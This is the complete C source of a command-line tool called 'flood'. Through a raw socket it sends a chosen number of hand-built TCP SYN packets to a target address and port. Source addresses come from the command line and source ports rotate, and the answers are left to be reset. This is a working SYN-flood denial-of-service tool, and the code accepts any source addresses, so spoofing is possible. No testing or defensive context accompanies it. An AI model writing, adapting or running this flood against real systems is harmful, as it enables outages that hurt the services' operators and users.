/* Opens connections and never minds the answers: flood ADDRESS PORT NUMBER OWN_ADDRESS... Each SYN has a source address and port
 * of its own; the kernel, which knows of none of them, resets what is answered.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define FIRST_PORT 1024

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static unsigned short checksum(unsigned int sum, const void *data, int length)
{
	const unsigned short *word = data;

	for (; length > 1; length -= 2)
		sum += *word++;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	int number = argc > 3 ? atoi(argv[3]) : 0;

	if (argc < 5 || fd < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	for (int i = 0; i < number; i++) {
		struct packet p = {
			.ip = { .version = 4, .ihl = 5, .tot_len = htons(sizeof(p)), .ttl = 64, .protocol = IPPROTO_TCP },
			.tcp = { .dest = htons(atoi(argv[2])), .seq = htonl(i), .doff = 5, .syn = 1, .window = htons(64000) },
		};
		struct {
			unsigned int source, destination;
			unsigned char zero, protocol;
			unsigned short length;
		} pseudo = { .protocol = IPPROTO_TCP, .length = htons(sizeof(p.tcp)) };
		unsigned int sum = 0;

		inet_pton(AF_INET, argv[4 + i % (argc - 4)], &p.ip.saddr);
		p.ip.daddr = to.sin_addr.s_addr;
		p.tcp.source = htons(FIRST_PORT + i / (argc - 4) % (65536 - FIRST_PORT));
		pseudo.source = p.ip.saddr;
		pseudo.destination = p.ip.daddr;
		for (unsigned int k = 0; k < sizeof(pseudo) / 2; k++)
			sum += ((unsigned short *)&pseudo)[k];
		p.tcp.check = checksum(sum, &p.tcp, sizeof(p.tcp));
		while (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("sendto");
				return 1;
			}
			usleep(1000);
		}
		if (i % 64 == 63)
			usleep(2000);
	}
	return 0;
}
